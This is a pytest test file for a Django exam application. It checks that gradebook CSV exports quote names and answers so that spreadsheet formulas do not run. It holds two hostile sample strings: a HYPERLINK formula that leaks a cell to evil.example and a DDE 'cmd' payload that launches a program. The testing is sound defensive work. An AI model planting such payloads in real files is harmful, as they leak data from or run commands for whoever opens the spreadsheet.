"""Gradebook CSVs write a student's chosen name as text: a name that is a formula does not run in the
spreadsheet the instructor opens."""
import csv
import io

import pytest
from django.urls import reverse

from exams.actions.attempts import save_answers, start_attempt, submit_attempt

from .conftest import client_for

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?"&A2,"grade")'


@pytest.mark.parametrize("layout, column", [("canvas", 0), ("moodle", 0), ("long", 0)])
def test_a_formula_in_a_name_is_exported_as_text(exam, people, layout, column):
    alice = people["alice"]
    alice.first_name, alice.last_name, alice.username = EVIL, "", "@alice"
    alice.save()
    submit_attempt(start_attempt(exam, alice).pk, alice)
    body = client_for(people["ivy"]).get(reverse("exams:export", args=[exam.pk, layout])).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for r in rows for c in r]
    assert not any(c.startswith(("=", "@")) for c in cells), cells
    if layout == "long":
        assert "'@alice" in cells
    else:
        assert "'" + EVIL in cells


PAYLOAD = "1;=cmd|' /C calc'!A0"  # the tester's answer: "x=1;=cmd|' /C calc'!A0; y=…" in the long CSV


def _cells_as_excel_reads_them(body: str, separator: str) -> list[str]:
    """The cells a spreadsheet whose list separator is `separator` reads from the file: a '"' opens or
    closes a quoted run wherever it is, and a separator inside one is text (Excel's reading)."""
    cells = []
    for line in body.splitlines():
        cell, quoted = "", False
        for ch in line:
            if ch == '"':
                quoted = not quoted
            elif ch == separator and not quoted:
                cells.append(cell)
                cell = ""
            else:
                cell += ch
        cells.append(cell)
    return cells


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_a_formula_after_a_semicolon_in_an_answer_stays_inside_its_cell(exam, people, separator):
    """Excel set to a ';' list separator split the unquoted answer cell at ';' and ran '=cmd…'; every
    cell is now quoted, so under any separator no cell starts like a formula and the answer is one cell."""
    alice = people["alice"]
    attempt = start_attempt(exam, alice)
    item = attempt.items.filter(kind="question").first()
    names = [f["name"] for f in item.data["question"]["fields"]]
    save_answers(attempt.pk, alice, {item.key: {names[0]: PAYLOAD, **{n: "2" for n in names[1:]}}})
    submit_attempt(attempt.pk, alice)
    body = client_for(people["ivy"]).get(reverse("exams:export", args=[exam.pk, "long"])).content.decode()
    answer = next(c for r in csv.reader(io.StringIO(body)) for c in r if "cmd|" in c)
    assert f"{names[0]}={PAYLOAD}" in answer and f',"{answer}",' in body  # one cell, written inside quotes
    cells = _cells_as_excel_reads_them(body, separator)
    assert not any(c.lstrip().startswith(("=", "+", "-", "@")) and "cmd" in c for c in cells), cells
    if separator == ",":
        assert answer in cells


@pytest.mark.parametrize("layout", ["canvas", "moodle", "long"])
def test_every_cell_of_every_exam_export_is_quoted(exam, people, layout):
    alice = people["alice"]
    submit_attempt(start_attempt(exam, alice).pk, alice)
    body = client_for(people["ivy"]).get(reverse("exams:export", args=[exam.pk, layout])).content.decode()
    body = body.lstrip("\ufeff")  # a byte-order mark, where the layout has one
    lines = body.split("\r\n")[:-1]
    rows = list(csv.reader(io.StringIO(body)))
    assert len(lines) == len(rows) > 1
    for line, row in zip(lines, rows):
        assert line == ",".join('"' + c.replace('"', '""') + '"' for c in row)
